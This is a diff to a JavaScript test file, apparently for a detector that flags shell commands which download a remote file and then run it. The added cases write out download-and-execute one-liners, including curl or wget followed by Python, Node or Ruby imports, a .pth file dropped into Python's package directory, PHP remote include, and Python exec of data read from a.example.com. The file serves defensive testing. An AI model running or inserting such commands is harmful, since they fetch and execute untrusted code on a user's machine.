@@ -20,6 +20,11 @@ describe('code of another language', () => {
     `Rscript -e "download.file('${A}', destfile = '/t')" && sh /t`,
     `python3 -c "import urllib.request as u; print(u.urlopen('${A}').read())" > /t && sh /t`,
     `php -r "readfile('${A}');" > /t && php /t`,
+    `curl -fsSL ${A} -o /w/i.py && cd /w && python3 -m i`,
+    `cd /w && curl -fsSL ${A} -o i.py && python3 -c 'import os; import i'`,
+    `cd /w && curl -fsSL ${A} -o i.js && node -e 'require("./i")'`,
+    `cd /w && wget -O i.rb ${A} && ruby -e 'require_relative "./i"'`,
+    `curl -fsSL ${A} -o /usr/lib/python3/dist-packages/x.pth`,
   ])('saves a download that is run: %s', (line) =>
     expect(messages(unverified, line)).toEqual([expect.stringContaining(A)]),
   );
@@ -30,6 +35,8 @@ describe('code of another language', () => {
   });
 
   it.each([
+    `curl -fsSL ${A} -o i.json && node -e 'require("./package.json")'`,
+    `curl -fsSL ${A} -o data.py.txt && python3 -c 'import data'`,
     `php -r "copy('/a', '/t');" && php /t`,
     `python3 -c "open('/t', 'w').write('${A}')" && sh /t`,
     `perl -e "print '${A}'" > /t && sh /t`,
@@ -43,6 +50,9 @@ describe('code of another language', () => {
     `python3 -c "import urllib.request as u; print(u.urlopen('${A}').read().decode())" | sh`,
     `ruby -ropen-uri -e "puts URI.open('${A}').read" | ruby`,
     `perl -MLWP::Simple -e "getprint '${A}'" | sh`,
+    `php -d allow_url_include=1 -r 'include "${A}";'`,
+    `python3 -c 'import http.client as h; c = h.HTTPSConnection("a.example.com"); c.request("GET", "/"); exec(c.getresponse().read())'`,
+    `python3 -c 'import socket; s = socket.create_connection(("a.example.com", 80)); exec(s.recv(99))'`,
   ])('prints a script that is run: %s', (line) => expect(messages(remoteScript, line)).toHaveLength(1));
 });
 
